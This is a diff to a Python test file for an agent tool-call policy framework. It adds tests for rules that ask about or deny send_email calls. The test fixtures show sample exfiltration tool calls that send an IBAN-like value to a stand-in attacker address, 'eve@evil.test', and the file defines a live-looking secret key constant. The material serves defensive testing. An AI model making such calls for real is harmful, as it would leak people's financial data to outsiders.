@@ -1,15 +1,19 @@
 """The scenarios of `specs/policy_flow.md`."""
 
+import json
 import logging
 
 import pytest
 
 from toolbus import Agent, AgentComponent, AssistantMessage, EventBus, Scope, ToolCall
+from toolbus.cli import main
 from toolbus.components.call_facts import CallEffects, FactSources, QuotedPiece
+from toolbus.errors import ConfigurationError
 from toolbus.events import TOOL_CALL_BEFORE
 from toolbus.models.scripted import ScriptedModel
 from toolbus.policy import Policy
 from toolbus.policy.rules.policy_file import read_table
+from toolbus.policy.tools.verdict_tables import read_rows
 from toolbus.toml.values import MisfitError
 
 SECRET = "sk_live_51Nq8vKLzR3mXw7TtYpB0aHs2"
@@ -446,3 +450,87 @@ async def test_the_policy_tells_the_effects_of_calls(tmp_path):
     assert not (await effects("other")).is_known
     assert await effects("mail", sender="b") is None
     assert (await effects("mail", sender="a")) is not None
+
+
+# --- tools for such rules ------------------------------------------------------------------------
+
+POLICY = """
+default = "allow"
+[tools.send_email]
+effects = ["message"]
+[[rule]]
+name = "strangers"
+verdict = "ask"
+from = "untrusted"
+sink = "message"
+[[rule]]
+name = "accounts"
+verdict = "deny"
+carries = "iban"
+sink = "message"
+new_host = true
+"""
+
+
+def run(capsys, *words):
+    code = main(["policy", *map(str, words)])
+    return code, capsys.readouterr().out
+
+
+@pytest.fixture
+def file(tmp_path):
+    (tmp_path / "policy.toml").write_text(POLICY)
+    return tmp_path / "policy.toml"
+
+
+def test_a_table_states_facts_about_words(file, capsys):
+    row = '[[call]]\ntool = "send_email"\narguments = { to = "eve@evil.test", body = "DE89" }\n'
+    table = file.with_name("calls.toml")
+    table.write_text(
+        f"{row}verdict = 'allow'\n"
+        f"{row}verdict = 'ask'\nrule = 'strangers'\nin_view = {{ untrusted = ['eve@evil.test'] }}\n"
+        f"{row}verdict = 'allow'\nin_view = {{ private = ['eve@evil.test'], untrusted = ['x'] }}\n"
+        f"{row}verdict = 'deny'\ncarries = {{ iban = ['DE89'] }}\n"
+        f"{row}verdict = 'allow'\ncarries = {{ iban = ['DE89'] }}\nnamed = ['eve@evil.test']\n"
+    )
+    wrong = file.with_name("wrong.toml")
+    wrong.write_text(f"{row}verdict = 'allow'\nin_view = {{ strange = [] }}\n")
+
+    assert run(capsys, "test", file, table) == (0, "5 of 5 verdicts are as expected\n")
+    with pytest.raises(ConfigurationError, match="'strange'"):
+        read_rows(wrong)
+
+
+def test_an_explanation_names_its_assumption(file, capsys):
+    other = file.with_name("other.toml")
+    other.write_text('default = "allow"\n')
+    words = ("--tool", "send_email", "--arguments", '{"to": "eve@evil.test"}')
+
+    _, text = run(capsys, "explain", file, *words)
+    _, plain = run(capsys, "explain", other, *words)
+
+    assert "assuming that no text is in view" in text
+    assert "· strangers  not run (from): it has no words from such a text" in text
+    assert "in view" not in plain
+
+
+def test_a_check_names_the_missing_component(file, capsys):
+    config = file.with_name("toolbus.toml")
+    component = '[[component]]\nuse = "policy"\nsettings = { file = "policy.toml" }\n'
+
+    config.write_text(component)
+    code, text = run(capsys, "check", file)
+    config.write_text(f'{component}[[component]]\nuse = "flow"\n')
+
+    assert code == 1
+    assert """policy.toml:5: warning: rule 'strangers' asks about every such call; add """ in text
+    assert run(capsys, "check", file) == (0, "✓ 2 rules, no problems\n")
+
+
+def test_the_schema_has_the_new_keys(capsys):
+    main(["schema", "policy"])
+
+    rule = json.loads(capsys.readouterr().out)["$defs"]["RuleTable"]["properties"]
+    assert {"in_view", "from", "target_from", "carries", "sink", "new_host"} <= rule.keys()
+    assert "execute" in json.dumps(rule["sink"])
+    assert "untrusted" in json.dumps(rule["from"])
